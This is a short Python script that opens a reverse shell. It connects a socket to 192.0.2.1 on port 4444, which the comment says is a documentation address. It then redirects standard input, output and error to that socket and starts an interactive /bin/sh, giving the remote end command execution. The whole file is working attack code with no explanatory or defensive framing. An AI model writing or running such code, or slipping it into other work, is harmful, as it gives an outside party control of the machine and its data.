# A shell for somebody else. The address is one for documentation.
import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.1", 4444))
for fd in range(3):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
